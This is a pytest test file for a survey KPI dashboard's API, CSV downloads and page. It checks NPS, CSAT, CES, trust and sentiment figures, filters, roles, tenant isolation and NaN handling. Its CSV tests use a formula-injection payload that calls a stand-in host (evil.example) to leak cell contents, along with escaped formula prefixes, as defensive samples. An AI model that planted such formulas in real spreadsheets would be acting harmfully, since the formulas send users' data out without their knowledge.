"""The survey KPIs through the API, the CSV downloads and the dashboard page, against
hand-computed figures: filters, bad input, roles, outsiders, CSV safety and no NaN."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, date, datetime, timedelta

import pytest

from accounts.services import location_create
from customers.models import Purchase
from cxplatform.csvsafe import safe_cell
from feedback.models import (
    Answer,
    Channel,
    Interaction,
    InteractionChannel,
    Question,
    QuestionKind,
    Response,
    Survey,
    TrustPillar,
)
from journeys.models import Touchpoint
from journeys.rollups import day_bounds
from metrics.presenters import CSV_COLUMNS
from tests.factories import CustomerFactory

pytestmark = pytest.mark.django_db

API, API_CSV = "/api/v1/metrics/kpis/", "/api/v1/metrics/kpis/csv/"
PAGE, PAGE_CSV = "/dashboard/", "/dashboard/kpis.csv"

# A fixed past fortnight, so no test depends on today; its previous period is the
# fortnight before (15-28 February).
FIRST, LAST = date(2025, 3, 1), date(2025, 3, 14)
PERIOD = {"start": FIRST.isoformat(), "end": LAST.isoformat()}
BEFORE = date(2025, 2, 20)
PILLARS = tuple(TrustPillar.values)  # reliability, integrity, competence, benevolence


# --- Voices with every KPI question --------------------------------------------------------


def scored(tone: float | None) -> dict:
    if tone is None:
        return {}
    label = "positive" if tone >= 0.05 else "negative" if tone <= -0.05 else "neutral"
    return {
        "sentiment_score": tone,
        "sentiment_label": label,
        "sentiment_explanation": {"words": [], "aspects": {}, "reason": ""},
        "scored_at": datetime(2025, 1, 1, tzinfo=UTC),
    }


class Said:
    """Writes one business's survey responses (NPS, CSAT, CES, four trust items and a
    comment) and staff interactions at local noon of given days."""

    def __init__(self, business) -> None:
        self.business = business
        self.survey = self.survey_at("visit", "Everything")

    def touchpoint(self, key: str) -> Touchpoint:
        return Touchpoint.objects.get(business=self.business, key=key)

    def survey_at(self, key: str, name: str) -> Survey:
        survey = Survey.objects.create(
            business=self.business, name=name, touchpoint=self.touchpoint(key)
        )
        kinds = [
            (QuestionKind.NPS, ""),
            (QuestionKind.CSAT, ""),
            (QuestionKind.CES, ""),
            *((QuestionKind.TRUST, pillar) for pillar in PILLARS),
            (QuestionKind.TEXT, ""),
        ]
        for position, (kind, pillar) in enumerate(kinds):
            Question.objects.create(
                business=self.business, survey=survey, position=position, kind=kind,
                pillar=pillar, prompt=f"{kind} {pillar}", required=False,
            )  # fmt: skip
        return survey

    def at(self, day: date) -> datetime:
        return day_bounds(self.business, day, day)[0] + timedelta(hours=12)

    def response(self, day: date, *, survey=None, nps=None, csat=None, ces=None, trust=(),
                 tone=None, channel=Channel.LINK, location=None,
                 customer=None) -> Response:  # fmt: skip
        survey, at = survey or self.survey, self.at(day)
        response = Response.objects.create(
            business=self.business, survey=survey, channel=channel, location=location,
            customer=customer, created_at=at,
        )  # fmt: skip
        questions = {(q.kind, q.pillar): q for q in survey.questions.all()}
        numbers = {
            (QuestionKind.NPS, ""): nps,
            (QuestionKind.CSAT, ""): csat,
            (QuestionKind.CES, ""): ces,
            **{(QuestionKind.TRUST, p): n for p, n in zip(PILLARS, trust, strict=False)},
        }
        common = {"business": self.business, "response": response, "created_at": at}
        answers = [
            Answer(question=questions[key], number=number, **common)
            for key, number in numbers.items()
            if number is not None
        ]
        if tone is not None:
            answers.append(
                Answer(question=questions[(QuestionKind.TEXT, "")], text=f"tone {tone}",
                       **scored(tone), **common)
            )  # fmt: skip
        Answer.objects.bulk_create(answers)
        return response

    def interaction(self, day: date, *, touchpoint="visit", tone=None, location=None,
                    customer=None) -> Interaction:  # fmt: skip
        return Interaction.objects.create(
            business=self.business, channel=InteractionChannel.IN_PERSON, note=f"note {tone}",
            touchpoint=self.touchpoint(touchpoint) if touchpoint else None, location=location,
            customer=customer, created_at=self.at(day), **scored(tone),
        )  # fmt: skip


@pytest.fixture
def said_a(business_a) -> Said:
    return Said(business_a)


@pytest.fixture
def said_b(business_b) -> Said:
    return Said(business_b)


def refuse_constant(name: str) -> None:
    raise ValueError(f"{name} is not JSON")


def strict_json(content: bytes | str) -> dict:
    """JSON as a strict parser reads it: NaN and Infinity are refused, not read."""
    return json.loads(content, parse_constant=refuse_constant)


def kpis(client, **query) -> dict:
    reply = client.get(API, query)
    assert reply.status_code == 200, reply.content
    return strict_json(reply.content)


def csv_table(reply) -> list[list[str]]:
    assert reply.status_code == 200, reply.content
    assert reply["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(reply.content.decode("utf-8-sig"))))


def day(n: int) -> date:
    return FIRST + timedelta(days=n)


# --- 1. Figures against hand-computed values --------------------------------------------


@pytest.fixture
def known(said_a, said_b):
    """Ten responses and one interaction in the period, three responses before it."""
    nps = (10, 10, 9, 9, 8, 7, 6, 3, 0, 10)
    csat = (5, 4, 4, 3, 2, 5)
    ces = (7, 6, 5, 4, 2)
    trust = ((7, 4, 5, 3), (6, 4, 7, 2))
    tones = (0.6, 0.3, 0.0, -0.5)
    for i, score in enumerate(nps):
        said_a.response(
            day(i), nps=score,
            csat=csat[i] if i < len(csat) else None,
            ces=ces[i] if i < len(ces) else None,
            trust=trust[i] if i < len(trust) else (),
            tone=tones[i] if i < len(tones) else None,
        )  # fmt: skip
    said_a.interaction(day(3), tone=-0.2)
    for score in (10, 0, 0):
        said_a.response(BEFORE, nps=score, csat=5 if score else None)
    said_a.response(date(2025, 2, 1), nps=10)  # before the previous period
    said_a.response(LAST + timedelta(days=1), nps=0)  # after the period
    said_b.response(day(2), nps=0, csat=1)  # another business
    return said_a


def test_it_gives_hand_computed_kpis(known, alice, client_of):
    body = kpis(client_of(alice), **PERIOD)
    now = body["current"]
    assert body["period"] == PERIOD
    assert (now["responses"], now["interactions"]) == (10, 1)

    # NPS: 10 answers; promoters (9-10) 10, 10, 9, 9, 10 = 5; passives 8, 7 = 2;
    # detractors (0-6) 6, 3, 0 = 3. Score = 100 * (5 - 3) / 10 = 20.
    # Adjusted Wald: n + 3 = 13, p+ = (5 + .75) / 13 = .44231, p- = (3 + .75) / 13 = .28846,
    # d = .15385, var = (.44231 + .28846 - .15385²) / 13 = .70710 / 13 = .054392,
    # z·sd = 1.95996 * .23322 = .45711: interval 100 * (.15385 ∓ .45711) = -30.3 .. 61.1.
    assert now["nps"] == {
        "score": 20.0, "interval": {"low": -30.3, "high": 61.1}, "enough": False,
        "answers": 10, "promoters": 5, "passives": 2, "detractors": 3,
    }  # fmt: skip

    # CSAT 5, 4, 4, 3, 2, 5: satisfied (4-5) 4 of 6 = 66.7%, mean 23 / 6 = 3.83.
    # Agresti-Coull: n~ = 6 + z² = 9.8415, p~ = (4 + z²/2) / 9.8415 = .60161,
    # z·sqrt(p~(1 - p~)/n~) = .30587: 29.6 .. 90.7.
    csat = now["csat"]
    assert (csat["percent_satisfied"], csat["mean"], csat["answers"]) == (66.7, 3.83, 6)
    assert csat["interval"] == {"low": 29.6, "high": 90.7}
    assert csat["enough"] is False

    # CES 7, 6, 5, 4, 2: mean 24 / 5 = 4.8; easy (5-7) 3 of 5 = 60%; under 20: no interval.
    assert now["ces"] == {
        "mean": 4.8, "interval": None, "percent_easy": 60.0, "enough": False, "answers": 5,
        "scale": "1-7 agreement, easy = 5-7",
    }  # fmt: skip

    # Trust, 1-7 as (mean - 1) / 6 * 100: reliability 7, 6 -> 6.5 -> 91.7; integrity 4, 4 ->
    # 50.0; competence 5, 7 -> 6 -> 83.3; benevolence 3, 2 -> 2.5 -> 25.0.
    # Index = (91.667 + 50 + 83.333 + 25) / 4 = 62.5; the weakest is benevolence.
    trust = now["trust"]
    assert {key: pillar["score"] for key, pillar in trust["pillars"].items()} == {
        "reliability": 91.7, "integrity": 50.0, "competence": 83.3, "benevolence": 25.0,
    }  # fmt: skip
    assert all(pillar["answers"] == 2 for pillar in trust["pillars"].values())
    assert (trust["index"], trust["weakest"]) == (62.5, "benevolence")

    # Tones .6, .3 (positive), 0 (neutral), -.5 and the interaction's -.2 (negative):
    # mean (.6 + .3 + 0 - .5 - .2) / 5 = .04.
    sentiment = now["sentiment"]
    assert sentiment == {
        "mean": 0.04, "scored": 5, "positive": 2, "neutral": 1, "negative": 2,
        "percent_positive": 40.0, "percent_neutral": 20.0, "percent_negative": 40.0,
    }  # fmt: skip


def test_no_pillar_is_the_weakest_when_they_tie(said_a, alice, client_of):
    """TrustIndex.weakest promises "the pillar to work on, when there is a clear one";
    with every pillar at 66.7 (all 5s) the page must not single out reliability."""
    for i in range(3):
        said_a.response(day(i), trust=(5, 5, 5, 5))
    trust = kpis(client_of(alice), **PERIOD)["current"]["trust"]
    assert trust["index"] == 66.7  # (5 - 1) / 6 * 100
    assert trust["weakest"] is None


def test_it_gives_the_previous_period_and_no_change_from_too_few(known, alice, client_of):
    body = kpis(client_of(alice), **PERIOD)
    assert body["previous_period"] == {"start": "2025-02-15", "end": "2025-02-28"}
    before = body["previous"]
    # 10, 0, 0: 1 promoter, 2 detractors of 3 -> 100 * (1 - 2) / 3 = -33.3.
    assert (before["responses"], before["nps"]["score"], before["nps"]["answers"]) == (
        3,
        -33.3,
        3,
    )
    assert (before["csat"]["answers"], before["csat"]["percent_satisfied"]) == (1, 100.0)
    assert body["change"] == {"nps": None, "csat": None, "ces": None, "sentiment": None}


def twenty_each(said: Said, *, before: dict, now: dict, previous_n: int = 20) -> None:
    for i in range(previous_n):
        said.response(BEFORE, **{k: v[i % len(v)] for k, v in before.items()})
    for i in range(20):
        said.response(day(i % 14), **{k: v[i % len(v)] for k, v in now.items()})


def test_a_clear_change_with_20_answers_each_is_real(said_a, alice, client_of):
    twenty_each(
        said_a,
        before={"nps": (0,), "csat": (1,), "ces": (2, 3), "tone": (-0.5,)},
        now={"nps": (10,), "csat": (5,), "ces": (6, 7), "tone": (0.5,)},
    )
    change = kpis(client_of(alice), **PERIOD)["change"]

    # NPS -100 -> 100. Adjusted: now d = (20.75 - .75) / 23 = .86957, var = (21.5/23 - d²)/23
    # = .0077669; before the mirror image. z·sqrt(2 * .0077669) = .24428:
    # 100 * (1.73913 ∓ .24428) = 149.5 .. 198.3 (the plain difference shown is 200).
    assert change["nps"] == {
        "difference": 200.0, "low": 149.5, "high": 198.3, "real": True, "direction": "up",
    }  # fmt: skip
    # CSAT 0% -> 100%. Agresti-Caffo: now 21/22, before 1/22, difference .90909,
    # z·sqrt(2 * (21/22)(1/22) / 22) = .12309: 78.6 .. 103.2.
    assert change["csat"]["difference"] == 100.0
    assert change["csat"]["low"] == 78.6
    assert (change["csat"]["real"], change["csat"]["direction"]) == (True, "up")
    # CES 2.5 -> 6.5 (each: ten of x, ten of x + 1, variance 5/19). Welch: a = b = 5/19/20,
    # sqrt(a + b) = .16222, df = 38, t = 2.024: 4 ∓ .3283 = 3.67 .. 4.33.
    assert change["ces"] == {
        "difference": 4.0, "low": 3.67, "high": 4.33, "real": True, "direction": "up",
    }  # fmt: skip
    # Sentiment -.5 -> .5, every score identical on each side: the difference is exact.
    assert change["sentiment"] == {
        "difference": 1.0, "low": 1.0, "high": 1.0, "real": True, "direction": "up",
    }  # fmt: skip


def test_a_change_needs_20_answers_in_the_previous_period_too(said_a, alice, client_of):
    twenty_each(
        said_a,
        before={"nps": (0,), "csat": (1,), "ces": (2, 3), "tone": (-0.5,)},
        now={"nps": (10,), "csat": (5,), "ces": (6, 7), "tone": (0.5,)},
        previous_n=19,
    )
    body = kpis(client_of(alice), **PERIOD)
    assert (body["previous"]["nps"]["answers"], body["current"]["nps"]["answers"]) == (19, 20)
    assert (body["previous"]["nps"]["enough"], body["current"]["nps"]["enough"]) == (False, True)
    change = body["change"]
    assert (change["nps"], change["csat"], change["ces"]) == (None, None, None)
    # Sentiment follows the journey map's threshold (10 scored texts), not 20.
    assert change["sentiment"]["real"] is True


def test_a_small_move_is_not_a_real_change(said_a, alice, client_of):
    # NPS 0 (10 promoters, 10 detractors) -> 10 (11, 9): the interval is about -47 .. 64.
    twenty_each(said_a, before={"nps": (10, 0)}, now={"nps": (10,) * 11 + (0,) * 9})
    change = kpis(client_of(alice), **PERIOD)["change"]["nps"]
    assert change == {
        "difference": 10.0, "low": -47.1, "high": 64.5, "real": False, "direction": "same",
    }  # fmt: skip


def test_a_change_interval_stays_within_the_possible(said_a, alice, client_of):
    """A CSAT change is a difference of two percentages: it lies in -100 .. 100 points,
    as Share.interval is clipped to 0 .. 100. Agresti-Caffo's high end for 0% -> 100% is
    103.2 (see above): shown unclipped, the page would say "up to +103 points"."""
    twenty_each(said_a, before={"csat": (1,)}, now={"csat": (5,)})
    change = kpis(client_of(alice), **PERIOD)["change"]["csat"]
    assert -100 <= change["low"] <= change["high"] <= 100


# --- 2. Filters -------------------------------------------------------------------------------


@pytest.fixture
def mixed(said_a, business_a):
    """Three responses and two interactions that each filter splits differently.

    r1: survey "Visit" (touchpoint visit), link, Kiosk, returning customer, NPS 10
    r2: survey "Visit", qr, no location, new customer, NPS 0
    r3: survey "Help" (touchpoint support), link, Kiosk, anonymous, NPS 9
    i1: staff, touchpoint support, Kiosk, tone -.4;  i2: staff, touchpoint visit, tone .2
    """
    kiosk = location_create(business=business_a, name="Kiosk")
    visit, help_desk = said_a.survey_at("visit", "Visit"), said_a.survey_at("support", "Help")
    regular, newcomer = CustomerFactory(business=business_a), CustomerFactory(business=business_a)
    Purchase.objects.create(
        business=business_a, customer=regular, amount=5,
        purchased_at=said_a.at(FIRST) - timedelta(days=30),
    )  # fmt: skip
    said_a.response(day(1), survey=visit, nps=10, location=kiosk, customer=regular)
    said_a.response(day(2), survey=visit, nps=0, channel=Channel.QR, customer=newcomer)
    said_a.response(day(3), survey=help_desk, nps=9, location=kiosk)
    said_a.interaction(day(4), touchpoint="support", tone=-0.4, location=kiosk)
    said_a.interaction(day(5), touchpoint="visit", tone=0.2)
    return {
        "location": kiosk.uuid,
        "survey": visit.uuid,
        "touchpoint:support": said_a.touchpoint("support").uuid,
        "touchpoint:visit": said_a.touchpoint("visit").uuid,
    }


FILTERED = [
    # query, (responses, interactions, NPS answers, NPS score)
    ({}, (3, 2, 3, 33.3)),  # 2 promoters, 1 detractor of 3
    ({"location": "location"}, (2, 1, 2, 100.0)),  # r1, r3, i1
    ({"survey": "survey"}, (2, 0, 2, 0.0)),  # r1, r2: a survey has no staff voices
    ({"touchpoint": "touchpoint:support"}, (1, 1, 1, 100.0)),  # r3, i1
    ({"touchpoint": "touchpoint:visit"}, (2, 1, 2, 0.0)),  # r1, r2, i2
    ({"channel": "qr"}, (1, 0, 1, -100.0)),  # r2
    ({"channel": "link"}, (2, 0, 2, 100.0)),  # r1, r3
    ({"channel": "staff"}, (0, 2, 0, None)),  # i1, i2
    ({"segment": "returning"}, (1, 0, 1, 100.0)),  # r1
    ({"segment": "new"}, (1, 0, 1, -100.0)),  # r2
]


@pytest.mark.parametrize(("query", "expected"), FILTERED, ids=[str(q) for q, _ in FILTERED])
def test_each_filter_keeps_its_voices(mixed, alice, client_of, query, expected):
    query = {key: mixed.get(value, value) for key, value in query.items()}
    now = kpis(client_of(alice), **PERIOD, **query)["current"]
    nps = now["nps"]
    assert (now["responses"], now["interactions"], nps["answers"], nps["score"]) == expected


def test_staff_channel_counts_interactions_only(mixed, alice, client_of):
    now = kpis(client_of(alice), **PERIOD, channel="staff")["current"]
    # i1 -.4 (negative) and i2 .2 (positive): mean -.1.
    sentiment = now["sentiment"]
    assert (sentiment["scored"], sentiment["positive"], sentiment["negative"]) == (2, 1, 1)
    assert sentiment["mean"] == -0.1


def test_the_period_keeps_its_first_and_last_day(said_a, alice, client_of):
    said_a.response(FIRST - timedelta(days=1), nps=0)  # the previous period's last day
    said_a.response(FIRST, nps=10)
    said_a.response(LAST, nps=9)
    said_a.response(LAST + timedelta(days=1), nps=0)
    body = kpis(client_of(alice), **PERIOD)
    assert (body["current"]["nps"]["answers"], body["current"]["nps"]["score"]) == (2, 100.0)
    assert (body["previous"]["nps"]["answers"], body["previous"]["nps"]["score"]) == (1, -100.0)
    one_day = kpis(client_of(alice), start=LAST.isoformat(), end=LAST.isoformat())
    assert one_day["current"]["nps"]["answers"] == 1
    assert one_day["previous_period"] == {"start": "2025-03-13", "end": "2025-03-13"}


@pytest.mark.parametrize(
    ("query", "field", "words"),
    [
        ({"start": "yesterday"}, "start", "valid date"),
        ({"start": "2025-03-10", "end": "2025-03-01"}, "end", "ends before it starts"),
        ({"start": "2020-01-01", "end": "2025-01-01"}, "start", "three years"),
        ({"channel": "fax"}, "channel", "listed channels"),
        ({"segment": "vip"}, "segment", "new or returning"),
        ({"grain": "year"}, "grain", "week or month"),
        ({"location": "not-a-uuid"}, "location", "no such location"),
        ({"survey": "not-a-uuid"}, "survey", "no such survey"),
        ({"touchpoint": "12"}, "touchpoint", "no such touchpoint"),
    ],
)
def test_bad_filters_are_named(said_a, alice, client_of, query, field, words):
    reply = client_of(alice).get(API, query)
    assert reply.status_code == 400
    body = reply.json()
    assert words in " ".join(body["errors"][field])
    assert "current" not in body


def test_an_unknown_parameter_is_refused_by_name(said_a, alice, client_of):
    reply = client_of(alice).get(API, {"foo": "1", **PERIOD})
    assert reply.status_code == 400
    message = " ".join(reply.json()["errors"]["filters"])
    assert "foo" in message
    assert "start" not in message.split("Known filters")[0]  # only the unknown is blamed


@pytest.mark.parametrize("field", ["location", "survey", "touchpoint"])
def test_another_business_objects_are_no_filter(known, business_a, charlie, client_of, field):
    theirs = {
        "location": location_create(business=business_a, name="Secret kiosk").uuid,
        "survey": known.survey.uuid,
        "touchpoint": known.touchpoint("visit").uuid,
    }[field]
    reply = client_of(charlie).get(API, {field: str(theirs), **PERIOD})
    assert reply.status_code == 400
    body = reply.json()
    assert list(body["errors"]) == [field]
    assert "current" not in body and "Secret kiosk" not in reply.content.decode()
    assert client_of(charlie).get(PAGE, {field: str(theirs)}).status_code == 400


@pytest.fixture
def spread_days(said_a):
    # 2025-01-01 is a Wednesday: its week starts Monday 30 December 2024.
    days = (
        date(2025, 1, 1), date(2025, 1, 5), date(2025, 1, 6), date(2025, 2, 28),
        date(2025, 3, 3),
    )  # fmt: skip
    for moment in days:
        said_a.response(moment, nps=10)
    return {"start": "2025-01-01", "end": "2025-03-15"}


def test_weeks_start_on_mondays_and_months_on_the_first(spread_days, alice, client_of):
    client = client_of(alice)
    weeks = kpis(client, **spread_days, grain="week")["trend"]
    months = kpis(client, **spread_days, grain="month")["trend"]
    assert weeks["grain"] == "week"
    assert [(p["start"], p["responses"]) for p in weeks["points"]] == [
        ("2024-12-30", 2),  # Wed 1 and Sun 5 January
        ("2025-01-06", 1),
        ("2025-02-24", 1),  # Fri 28 February
        ("2025-03-03", 1),
    ]
    assert all(date.fromisoformat(p["start"]).weekday() == 0 for p in weeks["points"])
    assert [(p["start"], p["responses"]) for p in months["points"]] == [
        ("2025-01-01", 3),
        ("2025-02-01", 1),
        ("2025-03-01", 1),
    ]


def test_the_grain_defaults_to_weeks_up_to_four_months(spread_days, alice, client_of):
    assert kpis(client_of(alice), **spread_days)["trend"]["grain"] == "week"
    long = kpis(client_of(alice), start="2024-06-01", end="2025-03-15")
    assert long["trend"]["grain"] == "month"


# --- 3. Roles --------------------------------------------------------------------------------


def test_owners_and_managers_may_read_it(known, alice, mia, client_of):
    assert kpis(client_of(alice), **PERIOD)["current"]["responses"] == 10
    assert kpis(client_of(mia), **PERIOD)["current"]["responses"] == 10


def test_it_requires_a_manager_role(known, bob, client_of):
    assert client_of(bob).get(API, PERIOD).status_code == 403
    assert client_of(bob).get(API_CSV, PERIOD).status_code == 403
    assert client_of(bob).get(PAGE, PERIOD).status_code == 403
    assert client_of(bob).get(PAGE_CSV, PERIOD).status_code == 403


def test_it_hides_other_businesses(known, charlie, client_of):
    body = kpis(client_of(charlie), **PERIOD)
    # Charlie's own salon: one response, NPS 0 and CSAT 1 (see `known`).
    assert (body["current"]["responses"], body["current"]["interactions"]) == (1, 0)
    assert (body["current"]["nps"]["score"], body["current"]["csat"]["mean"]) == (-100.0, 1.0)
    assert body["previous"]["responses"] == 0
    rows = csv_table(client_of(charlie).get(API_CSV, PERIOD))
    assert [row[1] for row in rows[1:]] == ["1"]


def test_an_outsider_without_data_sees_empty_figures(known, charlie, client_of):
    body = kpis(client_of(charlie), start="2025-02-01", end="2025-02-28")
    assert body["current"]["responses"] == 0
    assert body["current"]["nps"]["score"] is None
    assert body["trend"]["points"] == []


def test_it_requires_signing_in(known, client):
    assert client.get(API, PERIOD).status_code in (401, 403)
    assert client.get(API_CSV, PERIOD).status_code in (401, 403)
    assert client.get(PAGE).status_code == 302
    assert client.get(PAGE_CSV).status_code == 302


# --- 4. CSV ------------------------------------------------------------------------------------

HEADER = [
    "period_start", "responses", "interactions", "nps", "nps_low", "nps_high", "nps_answers",
    "csat_percent", "csat_low", "csat_high", "csat_answers", "ces_mean", "ces_percent_easy",
    "ces_answers", "trust_index", "trust_reliability", "trust_integrity", "trust_competence",
    "trust_benevolence", "sentiment_mean", "sentiment_percent_positive",
    "sentiment_percent_negative",
]  # fmt: skip


@pytest.mark.parametrize("url", [API_CSV, PAGE_CSV])
def test_the_csv_has_a_row_per_bucket(spread_days, business_a, alice, client_of, url):
    hostile = '=HYPERLINK("http://evil.example/?"&A1)'
    Survey.objects.filter(business=business_a).update(name=hostile)
    kiosk = location_create(business=business_a, name="@Kiosk -secret")
    said = Said(business_a)
    said.response(date(2025, 1, 6), nps=0, location=kiosk)

    rows = csv_table(client_of(alice).get(url, {**spread_days, "grain": "week"}))

    assert rows[0] == HEADER == [name for _, name in CSV_COLUMNS]
    assert [row[:4] for row in rows[1:]] == [
        ["2024-12-30", "2", "0", "100.0"],
        ["2025-01-06", "2", "0", "0.0"],  # 10 and 0: NPS 0
        ["2025-02-24", "1", "0", "100.0"],
        ["2025-03-03", "1", "0", "100.0"],
    ]
    text = "\n".join(",".join(row) for row in rows)
    assert "HYPERLINK" not in text and "Kiosk" not in text


def test_a_bad_filter_gives_no_csv(said_a, alice, client_of):
    api = client_of(alice).get(API_CSV, {"grain": "year"})
    assert api.status_code == 400 and "grain" in api.json()["errors"]
    page = client_of(alice).get(PAGE_CSV, {"foo": "1"})
    assert page.status_code == 400 and not page["Content-Type"].startswith("text/csv")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-x", "'-x"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        (-3, -3),
        (-2.5, -2.5),
        (0, 0),
        (None, ""),
        (True, "yes"),
        (date(2025, 3, 1), "2025-03-01"),
    ],
)
def test_a_csv_cell_is_never_a_formula(value, cell):
    assert safe_cell(value) == cell
    assert type(safe_cell(value)) is type(cell)


# --- 5. The page, and no NaN anywhere ----------------------------------------------------------


def figure(html: str, name: str) -> str:
    match = re.search(rf'<p class="kpi__value" id="kpi-{name}">(.*?)</p>', html, re.S)
    assert match, f"kpi-{name} not on the page"
    return match.group(1).strip()


def test_the_page_shows_the_filtered_figures(mixed, alice, client_of):
    client = client_of(alice)
    whole = client.get(PAGE, PERIOD).content.decode()
    kiosk = client.get(PAGE, {**PERIOD, "location": str(mixed["location"])}).content.decode()
    assert (figure(whole, "responses"), figure(whole, "nps")) == ("3", "33.3")
    assert (figure(kiosk, "responses"), figure(kiosk, "nps")) == ("2", "100")
    assert "1 Mar 2025 to 14 Mar 2025, compared with 15 Feb 2025 to 28 Feb 2025." in whole
    staff = client.get(PAGE, {**PERIOD, "channel": "staff"}).content.decode()
    assert figure(staff, "responses") == "0"
    assert "and 2 interactions logged by staff" in staff


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ({"foo": "1"}, "Unknown filter: foo"),
        ({"grain": "year"}, "Choose week or month."),
        ({"location": "d0c0ffee-0000-4000-8000-000000000000"}, "no such location"),
        ({"start": "2025-03-10", "end": "2025-03-01"}, "ends before it starts"),
    ],
)
def test_the_page_names_a_bad_filter(said_a, alice, client_of, query, message):
    reply = client_of(alice).get(PAGE, query)
    assert reply.status_code == 400
    html = reply.content.decode()
    assert message in html
    assert 'id="kpi-nps"' not in html


def identical(said: Said) -> None:
    # 20 identical answers in both periods: every variance is 0.
    for moment in [BEFORE] * 20 + [day(i % 14) for i in range(20)]:
        said.response(moment, nps=10, csat=5, ces=7, trust=(7, 7, 7, 7), tone=0.5)
        said.interaction(moment, tone=0.5)


def one_answer(said: Said) -> None:
    said.response(day(0), nps=8, csat=3, ces=4, trust=(4, 4, 4, 4), tone=0.0)


def nothing(said: Said) -> None:
    pass


@pytest.mark.parametrize("data", [identical, one_answer, nothing])
def test_nan_never_leaves(said_a, alice, client_of, data):
    data(said_a)
    client = client_of(alice)
    body = kpis(client, **PERIOD)  # parsed strictly: NaN or Infinity would raise
    for url in (API_CSV, PAGE_CSV):
        text = client.get(url, PERIOD).content.decode()
        assert "nan" not in text.lower() and "inf" not in text.lower()
    page = client.get(PAGE, PERIOD)
    html = page.content.decode()
    assert page.status_code == 200
    assert "NaN" not in html and "Infinity" not in html
    trend = re.search(r'<script id="trend-data" type="application/json">(.*?)</script>', html)
    assert strict_json(trend.group(1)) == strict_json(json.dumps(body["trend"]))
    if data is identical:
        assert body["current"]["ces"]["interval"] == {"low": 7.0, "high": 7.0}
        assert body["change"]["ces"]["difference"] == 0.0
        assert body["change"]["sentiment"]["real"] is False
        assert body["current"]["trust"]["index"] == 100.0
    if data is one_answer:
        assert body["current"]["nps"]["interval"] is not None
        assert body["current"]["ces"]["interval"] is None
        assert "Too few answers to say" in html
